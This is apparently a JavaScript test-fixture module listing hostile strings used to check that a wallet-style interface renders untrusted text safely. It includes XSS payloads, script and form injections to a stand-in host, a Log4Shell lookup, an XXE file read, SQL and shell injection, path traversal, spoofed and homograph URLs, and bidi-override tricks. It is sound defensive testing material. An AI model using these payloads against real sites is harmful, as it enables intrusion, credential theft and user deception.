// Texts that attack a page that shows them. Each calls pwned(), or leads to a host of its own, if a page falls for it.
const evil = "//evil.example";

const elements = [
  "<script>pwned()</script>",
  "<ScRiPt>pwned()</sCrIpT>",
  `<script src=${evil}/x.js></script>`,
  "<img src=x onerror=pwned()>",
  '<img/src="x"/onerror=pwned()//',
  "<svg onload=pwned()>",
  "<svg><script>pwned()</script></svg>",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:pwned()"><text y=20>open</text></a></svg>',
  "<body onload=pwned()>",
  '<iframe srcdoc="<script>parent.pwned()</script>">',
  "<iframe src=javascript:parent.pwned()>",
  "<details open ontoggle=pwned()>x",
  "<input autofocus onfocus=pwned()>",
  "<video><source onerror=pwned()></video>",
  "<xss tabindex=0 autofocus onfocus=pwned()></xss>",
  "<marquee onstart=pwned()>x</marquee>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  "<template><script>pwned()</script></template>",
  '<object data="data:text/html,<script>parent.pwned()</script>">',
  `<base href=${evil}/>`,
  `<meta http-equiv=refresh content=0;url=${evil}/>`,
  `<link rel=stylesheet href=${evil}/x.css>`,
  `<form action=${evil}><button>Sign in</button></form>`,
  "<a href=javascript:pwned()>open</a>",
  "<<script>pwned()//<</script>",
  "<scr\0ipt>pwned()</scr\0ipt>",
  "<plaintext>",
  "<dialog open style=position:fixed;inset:0>Sign in</dialog>",
];

const ends = [
  "</title><script>pwned()</script>",
  "</script><script>pwned()</script>",
  "</style><img src=x onerror=pwned()>",
  "</textarea><img src=x onerror=pwned()>",
  "</code></pre><img src=x onerror=pwned()>",
  "--><img src=x onerror=pwned()><!--",
  "<!--",
  "]]><script>pwned()</script>",
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '" onmouseover=pwned() x="',
  "' autofocus onfocus=pwned() x='",
  '" style="position:fixed;inset:0" x="',
  "` onload=pwned() x=`",
];

const encoded = [
  "&lt;script&gt;pwned()&lt;/script&gt;",
  "&#60;img src=x onerror=pwned()&#62;",
  "&amp;lt;b&amp;gt;&copy;&nbsp;&zwj;",
  "%3Cscript%3Epwned()%3C/script%3E",
  "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
  "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
];

const code = [
  '";pwned();//',
  "';pwned();//",
  '\\";pwned();//',
  "${pwned()}",
  "`${pwned()}`",
  "{{constructor.constructor('pwned()')()}}",
  "#{pwned()} <%= pwned() %>",
  '{"__html":"<img src=x onerror=pwned()>"}',
  `"},"x":{"$ref":"${evil}/x.json`,
  "x\u2028pwned()\u2029//",
  "\r\nSet-Cookie: x=1\r\n\r\n<script>pwned()</script>",
  "'; DROP TABLE tokens; --",
  "$(touch x) `touch x` | touch x",
  "${jndi:ldap://evil.example/x}",
  `=HYPERLINK("${evil}")`,
  "../../../../etc/passwd",
  "?q=x&sort=newest#page",
  "__proto__",
  "constructor",
  "hasOwnProperty",
  '{"__proto__":{"shown":true}}',
  "%s%s%n%x {0} %00",
  "NaN",
  "null",
];

const styles = ["}</style>*{display:none}", `}*{background:url(${evil}/x)}`, "expression(pwned())", "x;background:url(javascript:pwned())", `@import "${evil}/x.css";`];

const addresses = [
  "javascript:pwned()",
  "JaVaScRiPt:pwned()",
  " \u00a0javascript:pwned()",
  "java\nscript:pwned()",
  "java\tscript:pwned()",
  "\u0001javascript:pwned()",
  "javascript://x.example/%0apwned()",
  "javascript&colon;pwned()",
  "jav&#x09;ascript:pwned()",
  "data:text/html,<script>parent.pwned()</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==",
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>',
  "vbscript:pwned()",
  "VBSCRIPT:msgbox(1)",
  "view-source:javascript:pwned()",
  "blob:https://evil.example/1",
  "filesystem:https://evil.example/1",
  "file:///etc/passwd",
  evil,
  "\\\\evil.example\\",
  "/\\evil.example",
  "https:evil.example",
  "https:///evil.example",
  "https://phantom.app@evil.example/",
  "https://phantom.app%2f@evil.example:443/",
  "https://аpple.example/", // Cyrillic
  "https://xn--pple-43d.example/",
  "https://evil。example/",
  "https://phantom.app\u202emoc.live/",
  "http://127.0.0.1:22/",
  "http://[::1]/",
  "intent://x#Intent;scheme=javascript;end",
  "solana:evil",
  "ms-msdt:/id x",
  "about:blank",
];

const markdown = [
  "[open](javascript:pwned())",
  `![x](https:${evil}/x.png)`,
  "[x]: javascript:pwned()\n[x]",
  `<https:${evil}>`,
  "```\n<img src=x onerror=pwned()>\n```",
  `# Sign in\n\n[![x](${evil}/a)](javascript:pwned())`,
  "| a | b |\n|---|---|\n| <script>pwned()</script> | b |",
];

/** towers draw far above and below their line. */
export const towers = [
  "Z" + "\u0301".repeat(60) + "a" + "\u0316".repeat(60),
  [..."ZALGO"].map((letter) => letter + "\u030d\u030e\u0304\u0305\u033f\u0311\u0306\u0310\u0352\u0357\u0351\u0307\u0308\u030a\u0342\u0343\u0344\u034a\u034b\u034c\u0316\u0317\u0318\u0319\u031c\u031d\u031e\u031f").join(""),
  "ก" + "\u0e49".repeat(40) + "\u0e39".repeat(40),
  "\u20dd\u20de\u20e3".repeat(20) + "o",
];

/** bidirectional texts reorder what stands beside them. */
export const bidirectional = [
  "\u202ecod.exe",
  "\u202eCDSU",
  "\u202dabc\u202e",
  "\u2067USDC",
  "\u2069\u202eCDSU",
  "\u2069\u2069\u2069\u2069\u202eCDSU\u202c\u202c\u202c",
  "\u2029\u202eCDSU",
  "\u202b\u202bUSDC\u061c\u200f",
  "بحيرة 123 abc",
  "\u05d0\u05d1\u05d2 (12)",
];

const invisible = [
  "U\u200bS\u200bD\u200bC",
  "\ufeffUSDC\u2060",
  "USD\u0421", // Cyrillic
  "\u3164\u3164",
  "\u2800\u00ad\u034f",
  "USDC\u{e0041}\u{e0042}\u{e007f}",
  "\0\u0001\b\u001b[31m\u007f\u0085\u009b",
  "a\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nb",
  "\u00a0\u2003\u3000",
  "\ufffe\uffff\ud83d",
];

const large = ["W".repeat(800), "\ufdfd".repeat(40), "\u{1242b}".repeat(30), "👨‍👩‍👧‍👦".repeat(30), "i\u00ad".repeat(200), "$".repeat(400), "\u3164".repeat(150), ("W".repeat(30) + " ").repeat(20)];

/** examples are payloads by which the documentation's examples are shown. */
export const examples = ['<img/src="x"/onerror=pwned()//', "\u202eCDSU", "[open](javascript:pwned())"];

const all = [...elements, ...ends, ...encoded, ...code, ...styles, ...addresses, ...markdown, ...towers, ...bidirectional, ...invisible, ...large];

/** payloads are all of them; with PAYLOADS=few one in three, and those that tests name. */
export const payloads = process.env.PAYLOADS === "few" ? all.filter((payload, n) => n % 3 === 0 || [towers, bidirectional, examples].some((named) => named.includes(payload))) : all;
